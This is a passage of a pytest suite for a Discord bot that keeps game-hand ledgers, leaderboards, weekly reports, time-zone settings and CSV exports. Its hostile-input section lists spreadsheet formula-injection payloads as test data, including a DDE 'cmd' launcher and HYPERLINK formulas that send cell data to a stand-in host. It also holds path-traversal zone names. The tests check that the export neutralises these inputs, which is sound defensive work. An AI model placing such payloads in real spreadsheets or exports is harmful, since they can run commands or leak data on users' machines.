    await h.settle()
    await cog.tick()
    await h.settle()
    assert len(h.channel(report_ch)) == 1
    assert len(h.fake.requests_to(f"/channels/{report_ch}/messages", "GET")) == 1  # looked for once, first


async def test_a_bad_request_gives_the_week_back(h: Harness):
    """A 400 proves Discord took nothing: the week is given back and the next round posts it without looking."""
    report_ch, cog = await report_setup(h)
    cog.first_round = False
    fail_next(h, f"/channels/{report_ch}/messages", 400, 50035)
    await cog.tick()
    await h.settle()
    assert (await gstore.group_settings(h.bot.store, GUILD_ID)).report_claim_week is None
    await cog.tick()
    await h.settle()
    assert len(h.channel(report_ch)) == 1 and h.fake.requests_to(f"/channels/{report_ch}/messages", "GET") == []


async def test_a_missing_permission_is_not_retried_forever(h: Harness):
    report_ch, cog = await report_setup(h)
    fail_next(h, f"/channels/{report_ch}/messages", 403, 50013)
    await cog.tick()
    await cog.tick()
    await h.settle()
    assert h.channel(report_ch) == []
    assert h.fake.requests_to(f"/channels/{report_ch}/messages", "POST") == []  # the second tick did not try again
    assert (await gstore.group_settings(h.bot.store, GUILD_ID)).last_report_week == datetime(2030, 1, 14).toordinal()


# ---------------------------------------------------------------------------------------------- more


async def autocomplete(h: Harness, path: str, option: str, typed: str, **kw) -> list[dict]:
    """Send an autocomplete interaction (type 4) for ``option`` of ``/path`` with ``typed`` and return the choices
    the bot answered with (callback type 8, which the fake Discord does not model: recorded here)."""
    data, rec = h.slash_payload(path, **kw)
    data["type"] = 4
    opts = data["data"]["options"]
    while opts and opts[0].get("type") in (1, 2):
        opts = opts[0]["options"]
    opts[:] = [o for o in opts if o["name"] != option] + [{"name": option, "type": 3, "value": typed,
                                                           "focused": True}]
    answered: list[dict] = []
    real = h.fake._callback

    def callback(interaction_id, token, payload, files):
        if payload.get("type") == 8 and token == rec.token:
            answered.extend(payload["data"]["choices"])
            rec.callbacks.append(payload)
            return {"interaction": {"id": str(rec.id), "type": 4}, "resource": {"type": 8}}
        return real(interaction_id, token, payload, files)

    h.fake._callback = callback  # type: ignore[method-assign]
    try:
        await h.send(data, rec)
    finally:
        h.fake._callback = real  # type: ignore[method-assign]
    return answered


async def test_pickers_list_seasons_zones_and_this_servers_hands(h: Harness):
    await admin(h, "season start", title="Spring")
    await admin(h, "season start", title="Summer")
    got = await autocomplete(h, "leaderboard", "season", "")
    assert [c["value"] for c in got] == ["all", "2", "1"]
    assert got[1]["name"].startswith("Season 2 · Summer")
    assert [c["value"] for c in await autocomplete(h, "stats", "season", "spr")] == ["1"]
    zones = await autocomplete(h, "settings", "timezone", "lond", permissions=ADMIN_PERMISSIONS)
    assert [c["value"] for c in zones] == ["Europe/London"]
    ours = {r[0] for r in sql(h, "SELECT DISTINCT hand_id FROM ledger WHERE guild_id = ?", (GUILD_ID,))}
    hands = await autocomplete(h, "correct void", "hand", "", permissions=ADMIN_PERMISSIONS, hand=1, reason="x")
    assert hands and {c["value"] for c in hands} == ours  # 9 hands, newest first; none of the other server's
    newest = sql(h, "SELECT hand_id FROM ledger WHERE guild_id = ? ORDER BY at DESC, hand_id DESC LIMIT 1",
                 (GUILD_ID,))[0][0]
    assert hands[0]["value"] == newest and hands[0]["name"].startswith(f"#{newest} · ")
    assert await autocomplete(h, "correct void", "hand", "", hand=1, reason="x") == []  # a member: nothing


async def test_week_boundaries_follow_the_servers_time_zone(h: Harness):
    from bot.store import period_start

    sh_now = datetime.now(SH)
    monday = period_start("week", sh_now)  # this week's Monday 00:00 in Shanghai = Sunday 16:00 UTC
    await write_hands(h.bot.store, GUILD_ID, [monday + timedelta(seconds=1)], 11)
    for tz in ("Asia/Shanghai", "Europe/London"):
        await h.bot.store.update_guild_settings(GUILD_ID, A, {"default_variant": "hefei"})
        await gstore.set_timezone(h.bot.store, GUILD_ID, A, tz)
        since = period_start("week", datetime.now(ZoneInfo(tz)))
        r = await h.slash("leaderboard", period="week")
        assert board_of(r.reply.content) == named(expected_net(h, "hefei", int(since.timestamp() * 1000)))
    assert period_start("week", datetime.now(ZoneInfo("Europe/London"))) != monday


async def test_week_summary_against_the_ledger_without_voided_hands(h: Harness):
    start, end = datetime.now(UTC) - timedelta(days=7), datetime.now(UTC)
    lo, hi = int(start.timestamp() * 1000), int(end.timestamp() * 1000)
    top = sql(h, "SELECT hand_id FROM ledger WHERE guild_id = ? AND at >= ? AND won = 1 ORDER BY hand_value DESC, "
                 "at, hand_id LIMIT 1", (GUILD_ID, lo))[0][0]
    await admin(h, "correct void", hand=top, reason="not a real hand")
    s = await gstore.week_summary(h.bot.store, GUILD_ID, start, end)
    live = "hand_id NOT IN (SELECT hand_id FROM corrections WHERE hand_id IS NOT NULL)"
    assert s.hands == sql(h, f"SELECT COUNT(DISTINCT hand_id) FROM ledger WHERE guild_id = ? AND at >= ? AND at < ? "
                             f"AND {live}", (GUILD_ID, lo, hi))[0][0] == 4
    big = sql(h, f"SELECT hand_id, hand_value FROM ledger WHERE guild_id = ? AND at >= ? AND at < ? AND won = 1 "
                 f"AND {live} ORDER BY hand_value DESC, at, hand_id LIMIT 1", (GUILD_ID, lo, hi))[0]
    assert (s.biggest.hand_id, s.biggest.value) == big and s.biggest.hand_id != top
    assert {r.player_id: (r.net, r.hands, r.wins) for r in s.board} == expected_net(h, "hefei", lo, hi)


def with_channel(h: Harness, data: dict, channel_id: int) -> dict:
    """Discord resolves a channel option: the channel's payload beside the options."""
    ch = h.fake.channels[channel_id]
    for opt in data["data"]["options"]:
        if opt["type"] == 7:
            opt["value"] = str(opt["value"])  # snowflakes come as strings
    data["data"].setdefault("resolved", {})["channels"] = {
        str(channel_id): {**ch.payload(), "permissions": str(ADMIN_PERMISSIONS.value)}}
    return data


async def test_the_weekly_report_is_turned_on_and_off_in_settings(h: Harness):
    report_ch = h.add_channel(name="reports")
    before = dump(h)
    r = await admin(h, "settings", report_day="4")  # a day but no channel yet
    assert r.reply.ephemeral and "report_channel" in r.reply.content and r.reply.embeds == []
    assert dump(h) == before
    data, rec = h.slash_payload("settings", report_channel=report_ch, report_day="4", permissions=ADMIN_PERMISSIONS)
    r = await h.send(with_channel(h, data, report_ch), rec)
    assert f"Friday in <#{report_ch}>" in r.reply.content and r.reply.embeds
    gs = await gstore.group_settings(h.bot.store, GUILD_ID)
    assert (gs.report_channel, gs.report_weekday) == (report_ch, 4)
    # the week that already ended is not posted on the next tick: the next Friday's is the first
    assert gs.last_report_week == latest_report_day(datetime.now(SH), 4).toordinal()
    cog: Report = h.bot.get_cog("Report")
    await cog.tick()
    assert h.channel(report_ch) == []
    r = await admin(h, "settings", report_day="off")
    assert "Weekly report: off" in r.reply.content
    assert (await gstore.group_settings(h.bot.store, GUILD_ID)).report_channel is None
    audit = sql(h, "SELECT new_value FROM settings_audit WHERE field = 'weekly_report' ORDER BY id")
    assert audit == [(f'{{"channel":{report_ch},"weekday":4}}',), ('{"channel":null,"weekday":4}',)]
    panel = await admin(h, "settings")  # the panel's recent changes say it in words
    recent = next(f for f in panel.reply.embeds[0]["fields"] if f["name"] == "Recent changes")["value"]
    assert "Weekly report → off" in recent and f"Weekly report → Friday in <#{report_ch}>" in recent


async def test_two_admins_voiding_the_same_hand_at_once(h: Harness):
    hand = sql(h, "SELECT hand_id FROM ledger WHERE guild_id = ? LIMIT 1", (GUILD_ID,))[0][0]
    first = h.slash_payload("correct void", hand=hand, reason="first", permissions=ADMIN_PERMISSIONS)
    second = h.slash_payload("correct void", hand=hand, reason="second", user=B, permissions=ADMIN_PERMISSIONS)
    h.bot._connection.parse_interaction_create(first[0])  # both arrive before either is answered
    h.bot._connection.parse_interaction_create(second[0])
    await h.settle()
    replies = [first[1].reply, second[1].reply]
    assert sorted(r.ephemeral for r in replies) == [False, True]
    assert any("already void" in r.content for r in replies)
    assert sql(h, "SELECT COUNT(*) FROM corrections") == [(1,)]
    assert sql(h, "SELECT COUNT(*), SUM(amount) FROM correction_rows") == [(4, 0)]
    assert len(sql(h, "SELECT id FROM settings_audit WHERE field = 'void'")) == 1


async def test_a_closed_database_is_told_and_the_schedule_survives(h: Harness):
    cog: Report = h.bot.get_cog("Report")
    store = h.bot.store
    await store.close()  # the database went away under the bot
    r = await admin(h, "season start", title="Nope")
    assert r.reply.ephemeral and r.reply.content == "The store is closed."
    await cog.loop.coro(cog)  # one scheduled round: logged, not raised


async def test_new_commands_options_and_choices_are_localised(h: Harness):
    import re

    valid = re.compile(r"^[-_\w]{1,32}$")
    await h.bot.tree.sync()
    synced = {c["name"]: c for c in h.fake.commands[None]}

    def walk(entry: dict, kind: str = "command"):
        yield kind, entry
        for opt in entry.get("options", []):
            yield from walk(opt, "option")
        for choice in entry.get("choices", []):
            yield "choice", choice

    for name in ("season", "correct", "export", "help", "settings", "leaderboard", "stats"):
        for kind, entry in walk(synced[name]):
            names = entry.get("name_localizations") or {}
            assert {"zh-CN", "zh-TW"} <= set(names), (name, kind, entry["name"])
            for text in [entry["name"], *names.values()]:
                if kind != "choice":
                    assert valid.match(text) and text == text.lower(), text
            if kind != "choice":
                descs = entry.get("description_localizations") or {}
                assert {"zh-CN", "zh-TW"} <= set(descs) and all(1 <= len(x) <= 100 for x in descs.values()), entry
    names = synced["correct"]["name_localizations"]
    assert (names["zh-CN"], names["zh-TW"]) == ("更正", "更正")


@pytest.mark.parametrize("module", ["bot.store.group", "cogs.group", "cogs.post_claims", "cogs.report", "cogs.leaderboard",
                                    "render.report", "cogs.memory", "bot.errors", "cogs.errors"])
def test_docstring_examples(module):
    import doctest
    import importlib

    result = doctest.testmod(importlib.import_module(module), optionflags=doctest.ELLIPSIS)
    assert result.attempted >= 1 and result.failed == 0


async def test_a_restart_never_posts_a_week_twice(h: Harness):
    report_ch, cog = await report_setup(h)
    await cog.tick()
    await h.settle()
    assert len(h.channel(report_ch)) == 1
    new = await h.restart()
    try:
        again: Report = new.bot.get_cog("Report")
        again.clock = lambda: datetime(2030, 1, 14, 18, tzinfo=SH)  # later the same report day
        await again.tick()
        await new.settle()
        assert len(new.channel(report_ch)) == 1
    finally:
        await new.close()


# ---------------------------------------------------------------------------------------------- hostile input


@pytest.mark.parametrize("hand", [2**63, 10**30, 2**63 - 1, -1])
@pytest.mark.parametrize(("locale", "word"), [("en-US", "no hand"), ("zh-CN", "没有"), ("zh-TW", "沒有")])
async def test_voiding_a_hand_past_the_databases_integers(h: Harness, caplog, hand, locale, word):
    """``/correct void hand:`` 2^63 or 10^30 (a raw payload: Discord's client keeps integers smaller) raised an
    OverflowError in the driver: the generic apology and a traceback. It is a hand that does not exist."""
    before = dump(h)
    caplog.clear()
    r = await admin(h, "correct void", hand=hand, reason="x", locale=locale)
    assert r.reply.ephemeral and word in r.reply.content, r.reply.content
    assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
    assert dump(h) == before


async def test_numbers_typed_in_pickers_and_season_options_past_the_database(h: Harness, caplog):
    """A hand number or a season number too large for the database (or a digit that is not ASCII) typed in a
    picker or a season option: no hand / no such season, never the generic apology."""
    await admin(h, "season start", title="Spring")
    caplog.clear()
    for typed in ("9" * 30, str(2**63), "²", "#" + "1" * 25):
        assert await autocomplete(h, "correct void", "hand", typed, permissions=ADMIN_PERMISSIONS, hand=1,
                                  reason="x") == []
    before = dump(h)
    for season in ("9" * 30, str(2**63), "²"):
        for cmd in ("leaderboard", "stats"):
            r = await h.slash(cmd, season=season)
            assert r.reply.ephemeral and "no season" in r.reply.content, (cmd, season, r.reply.content)
        r = await admin(h, "export", season=season)
        assert r.reply.ephemeral and "no season" in r.reply.content and r.reply.attachments == []
    assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
    assert dump(h) == before


@pytest.mark.parametrize("name", ["posix/Asia/Shanghai", "right/UTC", "posixrules", "Asia/../Asia/Shanghai",
                                  "localtime"])
async def test_a_host_only_time_zone_name_is_refused(h: Harness, name):
    """Names that only some hosts have as files (``posix/``, ``right/``, ``posixrules``, ``localtime``: the host's
    own clock, which ``zoneinfo.available_timezones()`` lists on a host with /usr/share/zoneinfo/localtime) were
    accepted, and a host with only the tzdata package then failed /leaderboard and /history for the whole server.
    The picker does not offer them either."""
    before = dump(h)
    r = await admin(h, "settings", timezone=name)
    assert r.reply.ephemeral and "not a time zone" in r.reply.content and r.reply.embeds == []
    assert dump(h) == before
    offered = await autocomplete(h, "settings", "timezone", name.split("/")[-1], permissions=ADMIN_PERMISSIONS)
    assert name not in [c["value"] for c in offered]


async def test_a_stored_zone_this_host_does_not_know_falls_back_with_one_warning(h: Harness, caplog):
    """A zone stored earlier (another host, an older version) that this host does not know: the server's pages keep
    working in the default zone, and the log says so once, not at every request."""
    import sqlite3

    await admin(h, "settings", timezone="Europe/Paris")
    stored = f"posix/Nowhere/{snowflake()}"
    db = sqlite3.connect(h.bot.config.db_path)
    db.execute("UPDATE group_settings SET timezone = ? WHERE guild_id = ?", (stored, GUILD_ID))
    db.commit()
    db.close()
    caplog.clear()
    for _ in range(2):
        r = await h.slash("leaderboard", variant="hefei", period="all")
        assert "went wrong" not in r.reply.content and "子" in r.reply.content, r.reply.content
        r = await h.slash("history", user=A)
        assert r.reply.ephemeral and "went wrong" not in r.reply.content and "`" in r.reply.content
        r = await h.slash("stats", player=B)
        assert "went wrong" not in r.reply.content
    warned = [x for x in caplog.records if stored in x.getMessage()]
    assert [x.levelname for x in warned] == ["WARNING"], [x.getMessage() for x in warned]
    assert not [x for x in caplog.records if x.levelno >= 40], [x.getMessage() for x in caplog.records]
    r = await admin(h, "settings", timezone="Asia/Tokyo")  # and the zone can be set again
    assert "Asia/Tokyo" in r.reply.content


HOSTILE_NAMES = ["=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3", '@HYPERLINK("http://x.example","click")', "\t=1+1",
                 "\r=1+1"]


async def test_the_export_neutralises_spreadsheet_formulas(h: Harness):
    """Display names and reasons starting with = + - @ (or a tab, a carriage return) were written raw, and Excel
    and LibreOffice run them as formulas: every such text cell is written after a single quote (OWASP); the numbers
    stay numbers, a negative amount too."""
    players = [snowflake() for _ in HOSTILE_NAMES]
    seats = [SeatSpec.human(p, n) for p, n in zip(players, HOSTILE_NAMES, strict=True)]
    [hand] = await write_hands(h.bot.store, GUILD_ID, [datetime.now(UTC) - timedelta(hours=1)], 5, seats=seats[:4])
    await write_hands(h.bot.store, GUILD_ID, [datetime.now(UTC) - timedelta(hours=2)], 6, seats=[*seats[4:], *seats[:2]])
    reason = '=HYPERLINK("http://x.example/?"&A1,"ok")'
    await admin(h, "correct void", hand=hand, reason=reason)
    await admin(h, "correct adjust", payer=B, payee=C, amount=3, reason="-1+1 side bet", variant="hefei")
    r = await admin(h, "export")
    [att] = r.reply.attachments
    lines = list(csv.reader(io.StringIO(r.reply.files[att.filename].decode("utf-8-sig"), newline="")))
    body = [dict(zip(CSV_COLUMNS, line, strict=True)) for line in lines[1:]]
    names = {d["player_name"] for d in body if d["player_id"] in {f"<@{p}>" for p in players}}
    assert names == {"'" + n for n in HOSTILE_NAMES}
    assert {d["reason"] for d in body if d["kind"] == "void"} == {"'" + reason}
    assert {d["reason"] for d in body if d["kind"] == "adjust"} == {"'-1+1 side bet"}
    for d in body:  # no text cell a spreadsheet would run
        for k, v in d.items():
            if k in ("amount", "stack_amount", "jiao_amount", "hands", "won", "self_draw", "deal_in", "drawn",
                     "hand_value"):
                assert v.lstrip("-").isdigit(), (k, v)  # numbers stay numbers
            else:
                assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), (k, v)
    assert any(d["amount"].startswith("-") for d in body)  # a negative amount is written as a number
